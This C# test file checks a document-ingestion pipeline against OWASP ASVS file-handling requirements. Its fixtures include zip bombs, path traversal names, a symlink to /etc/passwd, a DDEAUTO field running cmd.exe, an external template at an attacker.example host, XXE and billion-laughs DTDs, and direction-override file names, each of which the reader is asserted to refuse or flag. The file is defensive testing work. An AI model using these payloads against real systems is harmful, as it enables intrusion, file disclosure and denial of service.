using System.IO.Compression;
using System.Text;
using QaPipeline.Domain.Reading;
using QaPipeline.Extraction.Tests.Archives;
using QaPipeline.Extraction.Tests.Word;

namespace QaPipeline.Extraction.Tests.Hostile;

/// <summary>OWASP Application Security Verification Standard 5.0, chapter V5 (file handling): what this room answers for, item by item.</summary>
public class AsvsV5Tests
{
    static readonly byte[] Zeros = new byte[40 << 20];

    static string Code(Document document) => document.Refusal?.Code ?? "read";

    [Fact]
    public async Task V5_2_1_a_file_above_the_size_limit_is_refused_unread()
    {
        var document = await Reading.Bytes("a.txt", Encoding.UTF8.GetBytes(new string('a', 5000)), new ReadingOptions { MaxFileBytes = 4000 });

        Code(document).ShouldBe("too-large");
        document.Units.Single().Status.ShouldBe(UnitStatus.Refused);
    }

    [Fact]
    public async Task V5_2_1_text_without_end_is_refused_before_it_fills_the_memory()
    {
        var limits = new ReadingOptions { MaxCharacters = 1000, MaxBlocks = 50 };

        Code(await Reading.Bytes("a.txt", Encoding.UTF8.GetBytes(new string('a', 4001)), limits)).ShouldBe("too-much-text");
        Code(await Reading.Bytes("a.csv", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("1,2\n", 51))), limits)).ShouldBe("too-much-text");
        Code(await Reading.Bytes("a.docx", new WordFixture(string.Concat(Enumerable.Repeat(WordFixture.P("x"), 51))).Build(), limits)).ShouldBe("too-much-text");
    }

    [Theory]
    [InlineData("a.docx", "PK\u0003\u0004 not really", "docx")]
    [InlineData("report.pdf", "plain words", "text")]
    [InlineData("page.docx", "<!doctype html><html><body><p>x</p></body></html>", "html")]
    public async Task V5_2_2_the_format_comes_from_the_bytes_and_a_wrong_extension_is_said(string name, string content, string format)
    {
        var document = await Reading.Text(name, content);
        var notices = NameChecks.NoticesFor(name, document.Format);

        if (format == "docx")
        {
            Code(document).ShouldBe("archive");
            notices.Single().Code.ShouldBe("wrong-extension");
            return;
        }
        document.Format.ToString().ShouldBe(format, StringCompareShould.IgnoreCase);
        notices.Single().Text.ShouldContain(Path.GetExtension(name));
    }

    [Theory]
    [InlineData("virus.docx", new byte[] { (byte)'M', (byte)'Z', 0, 0, 1 }, "unknown-format")]
    [InlineData("old.docx", new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0 }, "old-office-format")]
    [InlineData("letter.rtf", new byte[] { (byte)'{', (byte)'\\', (byte)'r', (byte)'t', (byte)'f', (byte)'1' }, "rich-text")]
    [InlineData("nothing.docx", new byte[0], "empty-file")]
    public async Task V5_2_2_other_formats_are_refused_with_what_to_do(string name, byte[] bytes, string code)
    {
        var document = await Reading.Bytes(name, bytes);

        Code(document).ShouldBe(code);
        document.Refusal!.Advice.ShouldNotBeEmpty();
        document.Units.Single().ShouldBe(new LedgerUnit("file", 1, UnitStatus.Refused, 0, "intake", Reason: document.Refusal.Reason));
        document.Reader.Name.ShouldBe("intake");
    }

    [Theory]
    [InlineData("mimetype", "application/vnd.oasis.opendocument.spreadsheet")]
    [InlineData("mimetype", "application/epub+zip")]
    [InlineData("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>")]
    [InlineData("META-INF/MANIFEST.MF", "Manifest-Version: 1.0")]
    public async Task V5_2_2_a_document_of_an_unknown_program_is_not_taken_apart_as_an_archive(string part, string content) =>
        Code(await Reading.Bytes("a.zip", new ZipFixture().With(part, content).With("content.xml", "<a/>").Build())).ShouldBe("unknown-format");

    [Theory]
    [InlineData("EncryptedPackage", "encrypted", "password")]
    [InlineData("WordDocument", "old-office-format", ".doc")]
    [InlineData("Workbook", "old-office-format", ".xls")]
    [InlineData("PowerPoint Document", "old-office-format", ".ppt")]
    public async Task V5_2_2_old_and_encrypted_office_files_are_told_apart(string stream, string code, string word)
    {
        var file = new byte[1536];
        byte[] signature = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        signature.CopyTo(file, 0);
        file[30] = 9;
        file[48] = 1;
        Encoding.Unicode.GetBytes(stream).CopyTo(file, 1024);

        var document = await Reading.Bytes("a.doc", file);

        Code(document).ShouldBe(code);
        document.Refusal!.Reason.ShouldContain(word);
    }

    [Fact]
    public async Task V5_2_2_a_polyglot_is_read_as_one_thing_and_said_to_be_another_too()
    {
        byte[] page = [.. "<html><body><p>Seen</p></body></html>"u8, .. new ZipFixture().With("evil.txt", "x").Build()];
        var document = await Reading.Bytes("page.html", [.. "<html><body><p>%PDF-1.7 Seen</p></body></html>"u8]);

        document.Notices.ShouldContain(n => n.Code == "polyglot" && n.Text.Contains("PDF"));
        (await Reading.Bytes("page.html", page)).Refusal!.Code.ShouldBe("unknown-format");
    }

    [Fact]
    public async Task V5_2_3_a_bomb_is_stopped_by_the_bytes_that_come_out_and_not_by_what_it_says()
    {
        var bomb = new ZipFixture().With("a.txt", "fine").With("zeros.bin", Zeros).Build();
        var lying = (byte[])bomb.Clone();
        Patch(lying, BitConverter.GetBytes(Zeros.Length), BitConverter.GetBytes(100));

        (await ArchiveUnpackingTests.Unpack(bomb)).Contents.Refused.Select(r => (r.Name, r.Refusal.Code)).ShouldBe([("zeros.bin", "inflation-limit")]);
        (await ArchiveUnpackingTests.Unpack(lying)).Contents.Refused.Select(r => r.Name).ShouldBe(["zeros.bin"]);
        (await ArchiveUnpackingTests.Unpack(bomb)).Files.Keys.ShouldBe(["a.txt"]);
    }

    [Fact]
    public async Task V5_2_3_a_bomb_inside_a_Word_file_is_stopped()
    {
        var bomb = new ZipFixture().With("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
            .With("word/document.xml", Zeros).Build();

        Code(await Reading.Bytes("a.docx", bomb)).ShouldBe("inflation-limit");
        Code(await Reading.Bytes("a.docx", bomb, new ReadingOptions { MaxInflationRatio = 100_000, MaxPartBytes = 1 << 20 })).ShouldBe("oversized-part");
    }

    [Fact]
    public async Task V5_2_3_more_entries_than_allowed_are_refused_before_any_is_opened()
    {
        var zip = new ZipFixture();
        for (var i = 0; i < 30; i++)
        {
            zip.With($"{i}.txt", "x");
        }

        (await ArchiveUnpackingTests.Unpack(zip.Build(), new ReadingOptions { MaxContainerEntries = 20 })).Contents.Refused.Single().Refusal.Code.ShouldBe("too-many-entries");
        (await ArchiveUnpackingTests.Unpack(zip.Build(), new ReadingOptions { MaxPackFiles = 20 })).Contents.Refused.Count.ShouldBe(10);
    }

    [Fact]
    public async Task V5_2_3_nesting_and_the_total_of_all_archives_are_limited()
    {
        var level3 = new ZipFixture().With("c.txt", "C").Build();
        var level2 = new ZipFixture().With("b.txt", "B").With("three.zip", level3).Build();
        var level1 = new ZipFixture().With("a.txt", "A").With("two.zip", level2).Build();

        var (contents, files) = await ArchiveUnpackingTests.Unpack(level1);
        files.Keys.ShouldBe(["a.txt", "two.zip/b.txt"]);
        contents.Refused.Select(r => (r.Name, r.Refusal.Code)).ShouldBe([("two.zip/three.zip", "nested-too-deep")]);

        var large = new ZipFixture().With("1.bin", new byte[600]).With("2.bin", new byte[600]).With("3.bin", new byte[600]).Build();
        (await ArchiveUnpackingTests.Unpack(large, new ReadingOptions { MaxInflatedBytes = 1000 })).Contents.Refused.Select(r => r.Refusal.Code).ShouldBe(["pack-too-large", "pack-too-large"]);
    }

    [Fact]
    public async Task V5_2_5_symbolic_links_are_refused()
    {
        var archive = new ZipFixture().With("link", "/etc/passwd", unchecked((int)0xA1FF0000)).With("a.txt", "A").Build();

        var (contents, files) = await ArchiveUnpackingTests.Unpack(archive);

        files.Keys.ShouldBe(["a.txt"]);
        contents.Refused.Select(r => (r.Name, r.Refusal.Code)).ShouldBe([("link", "link")]);
    }

    [Fact]
    public async Task V5_3_1_macros_program_fields_and_scripts_are_never_run()
    {
        var document = await new WordFixture("""<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""")
            .WithBinary("vbaProject", "vbaProject.bin", [1, 2, 3]).ReadAsync();

        document.Blocks.Single().Text.ShouldBe("shown");
        document.Notices.Select(n => n.Code).ShouldBe(["macros", "program-field"]);
        (await Reading.Bytes("a.docm", new WordFixture(WordFixture.P("x")).Build("application/vnd.ms-word.document.macroEnabled.main+xml"))).Format.ShouldBe(FileFormat.Docx);
    }

    [Fact]
    public async Task V5_3_2_outside_content_is_listed_and_never_fetched()
    {
        var document = await new WordFixture(WordFixture.P("Body.") + "<w:altChunk r:id=\"rId9\"/>")
            .WithRelationship("attachedTemplate", "http://attacker.example/evil.dotm", external: true)
            .WithRelationship("image", "file:///etc/passwd", external: true)
            .WithRelationship("hyperlink", "http://[broken", external: true)
            .WithPart("aFChunk", "chunk.html", "<html>injected</html>").ReadAsync();

        document.Lines().ShouldBe(["Paragraph: Body."]);
        var notice = document.Notices.Single(n => n.Code == "external-content").Text;
        notice.ShouldContain("http://attacker.example/evil.dotm");
        notice.ShouldContain("file:///etc/passwd");
        notice.ShouldNotContain("broken");
        document.Notices.ShouldContain(n => n.Code == "embedded-document");
        document.Units.ShouldContain(u => u.Kind == "object" && u.Status == UnitStatus.Refused && u.Reason!.Contains("chunk.html"));
    }

    [Theory]
    [InlineData("<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE lolz [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>")]
    public async Task V5_3_2_document_type_definitions_are_refused(string definition)
    {
        var word = new ZipFixture().With("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
            .With("word/document.xml", definition + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>").Build();
        var odt = new ZipFixture().With("mimetype", "application/vnd.oasis.opendocument.text").With("content.xml", definition + "<a/>").Build();

        Code(await Reading.Bytes("a.docx", word)).ShouldBe("forbidden-markup");
        Code(await Reading.Bytes("a.odt", odt)).ShouldBe("forbidden-markup");
    }

    [Fact]
    public async Task V5_3_2_markup_nested_to_exhaust_the_stack_is_refused()
    {
        var deep = string.Concat(Enumerable.Repeat("<w:sdt><w:sdtContent>", 20_000)) + string.Concat(Enumerable.Repeat("</w:sdtContent></w:sdt>", 20_000));

        Code(await new WordFixture(deep).ReadAsync()).ShouldBe("deep-markup");
        Code(await Reading.Text("a.html", "<html><body>" + string.Concat(Enumerable.Repeat("<div>", 50_000)))).ShouldBe("deep-markup");
        Code(await Reading.Text("a.md", new string('>', 50_000) + " x")).ShouldBeOneOf("deep-markup", "read");
        Code(await Reading.Text("a.md", string.Concat(Enumerable.Repeat("[", 50_000)))).ShouldBeOneOf("deep-markup", "read");
    }

    [Theory]
    [InlineData("../../etc/cron.d/x", "path-traversal")]
    [InlineData("a/../../x.txt", "path-traversal")]
    [InlineData("..\\..\\x.txt", "path-traversal")]
    [InlineData("/etc/passwd", "absolute-name")]
    [InlineData("C:\\Windows\\x.txt", "absolute-name")]
    [InlineData("\\\\server\\share\\x.txt", "absolute-name")]
    public async Task V5_3_3_names_that_point_outside_the_archive_are_refused(string name, string code)
    {
        var (contents, files) = await ArchiveUnpackingTests.Unpack(new ZipFixture().With(name, "x").With("a.txt", "A").Build());

        files.Keys.ShouldBe(["a.txt"]);
        contents.Refused.Single().Refusal.Code.ShouldBe(code);
    }

    [Fact]
    public async Task V5_3_3_two_entries_of_one_name_are_not_both_taken()
    {
        var (contents, files) = await ArchiveUnpackingTests.Unpack(new ZipFixture().With("a.txt", "first").With("A.TXT", "second").Build());

        files.ShouldBe(new Dictionary<string, string> { ["a.txt"] = "first" });
        contents.Refused.Single().Refusal.Code.ShouldBe("duplicate-name");
        Code(await Reading.Bytes("a.docx", Twice(new WordFixture(WordFixture.P("x")).Build()))).ShouldBe("damaged");
    }

    [Fact]
    public async Task V5_4_1_names_with_control_characters_or_direction_overrides_are_cleaned_and_said()
    {
        var (contents, _) = await ArchiveUnpackingTests.Unpack(new ZipFixture().With("report\u202Efdp.exe", "x").With("a\u0007b.txt", "y").Build());

        contents.Unpacked.ShouldBe(["reportfdp.exe", "ab.txt"]);
        NameChecks.NoticesFor("report\u202Efdp.exe", FileFormat.Text).Single().Code.ShouldBe("name-direction");
        NameChecks.NoticesFor("a\u0007b.txt", FileFormat.Text).Single().Code.ShouldBe("name-control-characters");
        NameChecks.NoticesFor("Prüfung – 2024.docx", FileFormat.Docx).ShouldBeEmpty();
    }

    [Fact]
    public async Task Text_that_is_shown_again_carries_no_invisible_marks() =>
        (await Reading.Text("a.txt", "pay\u202Eload\u200B and\u0007 more\u00AD." + new string(' ', 100) + "End.")).Blocks.Single().Text.ShouldBe("payload and more. End.");

    /// <summary>The same container with its main part in it twice.</summary>
    static byte[] Twice(byte[] word)
    {
        var bytes = new MemoryStream();
        bytes.Write(word);
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var stream = zip.CreateEntry("word/document.xml").Open();
            stream.Write("<other/>"u8);
        }
        return bytes.ToArray();
    }

    static void Patch(byte[] bytes, byte[] from, byte[] to)
    {
        for (var i = 0; i <= bytes.Length - from.Length; i++)
        {
            if (bytes.AsSpan(i, from.Length).SequenceEqual(from))
            {
                to.CopyTo(bytes, i);
            }
        }
    }
}
